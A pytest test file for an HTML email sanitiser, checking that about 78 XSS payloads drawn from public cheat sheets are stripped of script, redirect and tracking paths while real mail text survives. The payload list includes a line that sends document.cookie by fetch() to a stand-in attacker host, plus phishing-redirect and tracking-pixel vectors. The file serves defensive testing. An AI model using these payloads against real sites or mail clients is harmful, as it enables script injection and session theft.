"""The HTML sanitiser: no way to run script survives 60+ XSS payloads, and the
text of real HTML mail (../shared/corpus) survives it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import nh3
import pytest

from app.api import sanitize
from app.parse import parse

from .helpers import corpus_files

# From public cheat sheets (OWASP XSS Filter Evasion, PortSwigger's XSS cheat
# sheet, html5sec.org) and our own: mail-specific ones at the end.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.test/xss.js></SCRIPT>",
    "<script/xss src=http://xss.test/x.js></script>",
    "<<SCRIPT>alert('XSS');//\\<</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",  # noqa: E501
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",  # noqa: E501
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JAVASCRIPT:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="java&#10;script:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="livescript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div onmouseover="alert(1)">hover</div>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="behavior: url(xss.htc)">x</div>',
    '<div style="-moz-binding: url(http://xss.test/xss.xml#xss)">x</div>',
    "<style>@import 'http://xss.test/xss.css';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=http://phish.test/">',
    '<base href="javascript:alert(1)//">',
    '<base href="http://evil.test/">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td background="javascript:alert(1)">x</td>',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<bgsound src="javascript:alert(1)">',
    '<br size="&{alert(1)}">',
    '<xss style="xss:expression(alert(1))">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="#" onclick="alert(1)">x</a>',
    '<a href="https://ok.test/" target="_self" onmouseover=alert(1)>x</a>',
    '<img src="https://tracker.test/open.gif?u=1" width=1 height=1>',
    '<img srcset="https://tracker.test/a.png 1x">',
    '<a href="https://ok.test/" ping="https://tracker.test/ping">x</a>',
    "<template><script>alert(1)</script></template>",
    '<div xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)">x</a></div>',  # noqa: E501
    "<isindex action=javascript:alert(1) type=image>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    '"><script>alert(document.cookie)</script>',
    "<img src='x' onerror='fetch(\"https://evil.test/\"+document.cookie)'>",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">x</a>',  # noqa: E501
]

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
    "input", "button", "select", "textarea", "keygen", "base", "meta", "link", "svg", "math",
    "template", "noscript", "video", "audio", "source", "bgsound", "isindex", "plaintext",
    "xmp", "marquee", "body", "html", "head",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "dynsrc", "lowsrc",
                  "srcset", "data", "xlink:href", "ping", "poster"}  # fmt: skip


class Inventory(HTMLParser):
    """Every tag and attribute a browser's parser would see."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))

    handle_startendtag = handle_starttag


def script_paths(html: str, remote_images: bool = False) -> list[str]:
    """What in `html` could run script, submit, redirect or load something."""
    inventory = Inventory()
    inventory.feed(html)
    inventory.close()
    problems = []
    for tag, attrs in inventory.found:
        if tag in FORBIDDEN_TAGS:
            problems.append(f"tag {tag}")
        for name, value in attrs:
            value = value or ""
            squashed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if name.startswith("on"):
                problems.append(f"handler {name}")
            if name in URL_ATTRIBUTES:
                scheme = squashed.split(":", 1)[0] if ":" in squashed else ""
                if scheme not in ("http", "https", "mailto", "tel"):
                    problems.append(f"{name}={value!r}")
                if tag == "img" and name == "src" and not remote_images:
                    problems.append(f"remote image {value!r}")
                if name in ("srcset", "ping", "action", "formaction", "background"):
                    problems.append(f"{name} kept")
            risky = ("url(", "expression", "behavior", "binding")
            if name == "style" and any(word in squashed for word in risky):
                problems.append(f"style {value!r}")
    return problems


def test_enough_payloads():
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_has_no_script_path(payload):
    for remote_images in (False, True):
        cleaned = sanitize.clean(payload, remote_images)
        assert script_paths(cleaned, remote_images) == [], cleaned
        # Cleaning what was cleaned changes nothing: no second-pass surprises.
        assert sanitize.clean(cleaned, remote_images) == cleaned


def test_payloads_inside_a_real_looking_mail():
    html = "<html><head><title>t</title></head><body><p>Dear user,</p>"
    html += "".join(PAYLOADS) + "<p>Regards</p></body></html>"
    cleaned = sanitize.clean(html)
    assert script_paths(cleaned) == []
    assert "Dear user," in cleaned  # (<plaintext> and friends swallow the rest, as in browsers)


def test_what_is_kept():
    cleaned = sanitize.clean(
        '<table border="1" cellpadding="4"><tr><td style="color: red; position: fixed">a</td>'
        '</tr></table><a href="https://ok.test/x">link</a><font color="blue">f</font>'
    )
    assert '<td style="color:red">a</td>' in cleaned
    assert 'href="https://ok.test/x"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned and 'target="_blank"' in cleaned
    assert '<font color="blue">f</font>' in cleaned
    assert sanitize.clean('<img src="https://img.test/a.png" alt="A">') == '<img alt="A">'
    kept = sanitize.clean('<img src="https://img.test/a.png" alt="A">', remote_images=True)
    assert kept == '<img src="https://img.test/a.png" alt="A">'


def visible_text(html: str) -> str:
    text = nh3.clean(html, tags=set(), clean_content_tags=sanitize.CONTENT_TAGS)
    return re.sub(r"\s+", " ", text).strip()


def test_corpus_html_text_survives():
    checked = 0
    for path in corpus_files():
        html = parse(path.read_bytes()).html
        if not html.strip():
            continue
        checked += 1
        cleaned = sanitize.clean(html)
        assert script_paths(cleaned) == [], path
        assert visible_text(cleaned) == visible_text(html), path
    assert checked >= 100


def test_background_colours_stay_and_images_in_css_go():
    """Mail buttons are coloured with `background:` (white text on it): without it
    the text is white on white. Any CSS function that fetches an image goes."""
    button = '<a href="https://ok.test/c" style="background:#0b5cad;color:#fff">Confirm</a>'
    assert 'style="background:#0b5cad;color:#fff"' in sanitize.clean(button)
    for value in (
        "background:image-set('https://t.test/x.gif' 1x)",
        "background:-webkit-image-set('https://t.test/x.gif' 1x)",
        "background:cross-fade('https://t.test/x.gif', red)",
        "background:element(#x)",
        "background:src('https://t.test/x.gif')",
        "background:url(https://t.test/x.gif)",
    ):
        for remote_images in (False, True):
            assert "style" not in sanitize.clean(f'<p style="{value}">x</p>', remote_images)


# Every attribute HTML reads as a URL (the spec's attribute index).
URL_VALUED = ("href", "src", "cite", "action", "formaction", "background", "longdesc", "usemap",
              "poster", "srcset", "ping", "data", "codebase", "classid", "archive", "icon",
              "manifest", "profile", "itemtype", "itemid", "xmlns", "dynsrc", "lowsrc")  # fmt: skip
# Where the parser keeps a tag only inside its parent.
CONTEXT = {
    **dict.fromkeys(("td", "th"), "<table><tr>{}</tr></table>"),
    **dict.fromkeys(("tr", "thead", "tbody", "tfoot", "caption", "colgroup"), "<table>{}</table>"),
    "col": "<table><colgroup>{}</colgroup></table>",
}


def test_no_remote_url_survives_but_links_and_asked_for_images():
    """Review finding: `cite` (blockquote, q, del, ins) kept its URL, which a
    mail client may fetch or show: a tracking and leak vector. A remote URL
    may stay only as a link's href, or an image's src when the reader asked."""
    for remote_images in (False, True):
        allowed = {("a", "href")} | ({("img", "src")} if remote_images else set())
        kept = []
        for tag in sorted(sanitize.TAGS):
            for name in URL_VALUED:
                element = f'<{tag} {name}="https://t.test/{tag}/{name}">x</{tag}>'
                cleaned = sanitize.clean(CONTEXT.get(tag, "{}").format(element), remote_images)
                if "t.test" in cleaned and (tag, name) not in allowed:
                    kept.append(f"{tag}[{name}]")
        assert kept == [], f"remote_images={remote_images}"
